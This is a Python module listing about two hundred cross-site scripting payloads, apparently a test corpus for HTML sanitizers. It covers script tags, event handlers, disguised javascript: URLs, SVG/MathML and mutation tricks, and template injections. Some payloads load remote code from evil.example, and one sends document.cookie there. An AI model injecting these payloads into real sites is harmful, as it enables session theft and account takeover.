"""Two hundred ways to make a page run what a text says. Whatever runs calls ``alert``, or asks for ``evil.example``."""

_RUN = "alert(1)"

# elements that run something of themselves
_ELEMENTS = (
    *(
        f"<script>{_RUN}</script>",
        f"<SCRIPT>{_RUN}</SCRIPT>",
        f"<script >{_RUN}</script >",
        f"<script/x>{_RUN}</script>",
    ),
    *(f"<script\n>{_RUN}</script\n>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<<script>{_RUN}//<</script>"),
    *("<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>", f"<script>{_RUN}"),
    *(f"<script type=module>{_RUN}</script>", f"<script>/*<!--*/{_RUN}</script>", f"<script\x00>{_RUN}</script>"),
    *(f"<script\x0c>{_RUN}</script>", "<script>\\u0061lert(1)</script>", "<script>window['al'+'ert'](1)</script>"),
    *("<iframe src=javascript:alert(1)></iframe>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>"),
    *("<iframe src=data:text/html,<script>parent.alert(1)</script>>", f"<iframe onload={_RUN}></iframe>"),
    *(
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf>",
        "<object data=javascript:alert(1)></object>",
    ),
    *("<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>", "<applet code=x></applet>"),
    *(
        "<base href=//evil.example/>",
        "<base href=javascript:alert(1)//>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;//evil.example'>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x>",
        "<link rel=prefetch href=//evil.example/p>",
    ),
    *("<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/b)}</style>"),
    *(
        "<form action=javascript:alert(1)><button>点</button></form>",
        "<form><button formaction=javascript:alert(1)>点</button></form>",
    ),
    *(
        "<form id=x></form><button form=x formaction=javascript:alert(1)>点</button>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ),
    *("<input type=image src=x formaction=javascript:alert(1)>", "<portal src=//evil.example/></portal>"),
    *(
        f"<template><script>{_RUN}</script></template>",
        f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    ),
    *(
        f"<dialog open onclose={_RUN}><form method=dialog><button>点</button></form></dialog>",
        f"<noscript><script>{_RUN}</script>",
    ),
)

# what happens to an element: by itself, or when somebody comes near it
_HANDLERS = (
    *("<img src=x onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>", "<img src=x onerror='alert&#40;1&#41;'>"),
    *("<img src=x onerror=alert&lpar;1&rpar;>", "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror\n=\nalert(1)>"),
    *(
        "<img src='x' 'onerror=alert(1)>",
        '<img src="x"onerror=alert(1)>',
        "<img src=x onerror=`alert(1)`>",
        "<img src=x onerror=alert(1)//",
    ),
    *(
        "<img src=x onload=alert(1) onerror=alert(1)>",
        "<img srcset=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
    ),
    *("<img \x00src=x onerror=alert(1)>", "<img src=x \x0conerror=alert(1)>", "<img src=x\u00a0onerror=alert(1)>"),
    *(
        "<body onload=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
    ),
    *(
        "<video><source onerror=alert(1)></video>",
        "<video src=x onerror=alert(1)>",
        "<video poster=javascript:alert(1)>",
    ),
    *(
        "<audio src=x onerror=alert(1)>",
        "<audio oncanplay=alert(1)><source src=data:,></audio>",
        "<track onerror=alert(1) src=x>",
    ),
    *(
        "<details open ontoggle=alert(1)><summary>点</summary>",
        "<details ontoggle=alert(1)><summary>点</summary>文</details>",
    ),
    *(
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
    ),
    *(
        "<button popovertarget=p>点</button><div popover id=p onbeforetoggle=alert(1)>文</div>",
        "<keygen autofocus onfocus=alert(1)>",
    ),
    *(
        "<p onclick=alert(1)>点</p>",
        "<p onmouseover=alert(1)>近</p>",
        "<p onpointerenter=alert(1)>近</p>",
        "<p onauxclick=alert(1)>点</p>",
    ),
    *(
        "<a href=/ onclick=alert(1)>点</a>",
        "<a href=/ onmouseenter=alert(1)>近</a>",
        "<a href=/ onfocus=alert(1) id=f>点</a>",
    ),
    *(
        "<td onmouseover=alert(1)>格",
        "<table><tr><td onclick=alert(1)>格</table>",
        "<table background=javascript:alert(1)><tr><td>格</table>",
    ),
    *(
        "<h2 contenteditable onfocus=alert(1)>题</h2>",
        "<p tabindex=0 onfocusin=alert(1)>文</p>",
        "<ol onwheel=alert(1)><li>条</ol>",
    ),
    *("<p style=animation-name:x onanimationstart=alert(1)>", "<p style='transition:1s' ontransitionend=alert(1)>"),
    *(
        "<marquee onstart=alert(1)>走</marquee>",
        "<marquee loop=1 onfinish=alert(1)>走</marquee>",
        "<object onerror=alert(1)></object>",
    ),
    *("<figure onload=alert(1)><img src=x onerror=alert(1)></figure>", "<blockquote onscroll=alert(1)>引</blockquote>"),
    *(
        "<x onclick=alert(1)>点</x>",
        "<x-y onmouseover=alert(1)>近</x-y>",
        "<p oncut=alert(1)>",
        "<p onsecuritypolicyviolation=alert(1)>",
    ),
    *(
        "<div onclick='fetch(\"//evil.example/\"+document.cookie)'>点</div>",
        "<ins onpointermove=alert(1)>近</ins>",
        "<sub ondrag=alert(1)>近</sub>",
    ),
)

# addresses that run, plainly and disguised
_ADDRESSES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "java\tscript:alert(1)",
    ),
    *(
        "java\nscript:alert(1)",
        "java\rscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
    ),
    *(
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "javascript&#x3A;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
    ),
    *(
        "\x01javascript:alert(1)",
        "&#1;javascript:alert(1)",
        "javascript://%0aalert(1)",
        "javascript://evil.example/%0d%0aalert(1)",
    ),
    *(
        "javascript:/*--></script>*/alert(1)",
        "javascript:void(alert(1))",
        "javascript:`${alert(1)}`",
        "javascript:%61lert(1)",
    ),
    *("vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
    ),
    *(
        "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
        "blob:https://evil.example/x",
    ),
    *(
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "jar:javascript:alert(1)!/",
        "filesystem:https://evil.example/x",
    ),
    *(
        "\u2028javascript:alert(1)",
        "\ufeffjavascript:alert(1)",
        "ｊavascript:alert(1)",
        "javascript\u00ad:alert(1)",
        "//javascript:alert(1)",
    ),
)
_LINKS = (
    *(f'<a href="{address}">点</a>' for address in _ADDRESSES),
    *(f'<img src="{address}" alt="图">' for address in _ADDRESSES[:12]),
    *(
        "<a href=javascript:alert(1) target=_blank>点</a>",
        "<a href='/' ping='//evil.example/ping'>点</a>",
        "<area href=javascript:alert(1)>",
    ),
    *(
        "<a xlink:href=javascript:alert(1)>点</a>",
        "<a href='x' href='javascript:alert(1)'>点</a>",
        "<a\nhref\n=\njavascript:alert(1)>点</a>",
    ),
    *(
        '<a href="/media/" onclick="alert(1)">点</a>',
        "<a href=`javascript:alert(1)`>点</a>",
        "<q cite=javascript:alert(1)>引</q>",
    ),
    *(
        "<img src=//evil.example/pixel.gif>",
        "<img src=https://evil.example/pixel.gif alt=''>",
        "<img srcset='//evil.example/a 1x'>",
    ),
    *(
        "<blockquote cite=javascript:alert(1)>引</blockquote>",
        "<del cite=javascript:alert(1)>删</del>",
        "<img longdesc=javascript:alert(1) src=x>",
    ),
)

# other languages within, whose rules of parsing differ
_FOREIGN = (
    *(
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><script>alert&#40;1&#41;</script></svg>",
    ),
    *(
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set onbegin=alert(1) attributeName=x>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>点</text></a>",
    ),
    *(
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>点</text></a>",
        "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>>",
    ),
    *(
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><image href=//evil.example/i /></svg>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
    ),
    *(
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>",
        "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    ),
    *(
        "<math><mi xlink:href=javascript:alert(1)>点</mi></math>",
        "<math href=javascript:alert(1)>点</math>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    ),
    *(
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>点</maction></math>",
    ),
)

# texts that change their meaning when they are read and written again
_MUTATIONS = (
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    ),
    *(
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
        "<title><p title='</title><img src=x onerror=alert(1)>'>",
    ),
    *(
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<style><p title='</style><img src=x onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
    ),
    *(
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
    ),
    *(
        "<?xml version='1.0'?><img src=x onerror=alert(1)>",
        "<? <img src=x onerror=alert(1)> ?>",
        "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    ),
    *(
        "<a title='`<img src=x onerror=alert(1)>`'>文</a>",
        '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">文</a>',
        '<img alt="``onerror=alert(1)" src=x>',
    ),
    *(
        "<table><caption><svg><style><!--</caption><img src=x onerror=alert(1)>--></table>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
    ),
    *(
        "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
        "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
        "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
    ),
    *(
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<pre>\n</pre><img src=x onerror=alert(1)>",
        "<p id='</p><script>alert(1)</script>'>",
    ),
)

# styles, templates, names that scripts of the page might trip over
_OTHERS = (
    *(
        "<p style='background:url(javascript:alert(1))'>文</p>",
        "<p style='width:expression(alert(1))'>文</p>",
        '<p style="behavior:url(//evil.example/x.htc)">文</p>',
    ),
    *(
        "<p style='background-image:url(//evil.example/b)'>文</p>",
        "<p style='-moz-binding:url(//evil.example/x)'>文</p>",
        "<p style='list-style:url(//evil.example/l)'>文</p>",
    ),
    *(
        "{{7*7}}{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{alert(1)}",
        "{% debug %}{% load x %}",
        "<%= alert(1) %>",
        "{{request.user.password}}",
    ),
    *(
        "<p hx-on:click=alert(1)>点</p>",
        "<p hx-get=//evil.example/ hx-trigger=load>文</p>",
        "<p data-hx-get=//evil.example/ data-hx-trigger=load>文</p>",
    ),
    *(
        "<p x-data x-init=alert(1)>文</p>",
        "<p v-on:click=alert(1)>点</p>",
        "<p ng-click=alert(1)>点</p>",
        "<p data-bind='click:alert(1)'>点</p>",
    ),
    *(
        "<a id=location href=javascript:alert(1)>点</a>",
        "<img name=getElementById src=x>",
        "<form name=body><input name=attributes></form>",
        "<a id=__proto__ name=x>点</a>",
    ),
    *(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\xbcscript\xbealert(1)\xbc/script\xbe",
        "＜script＞alert(1)＜/script＞",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    ),
)

PAYLOADS: tuple[str, ...] = (*_ELEMENTS, *_HANDLERS, *_LINKS, *_FOREIGN, *_MUTATIONS, *_OTHERS)
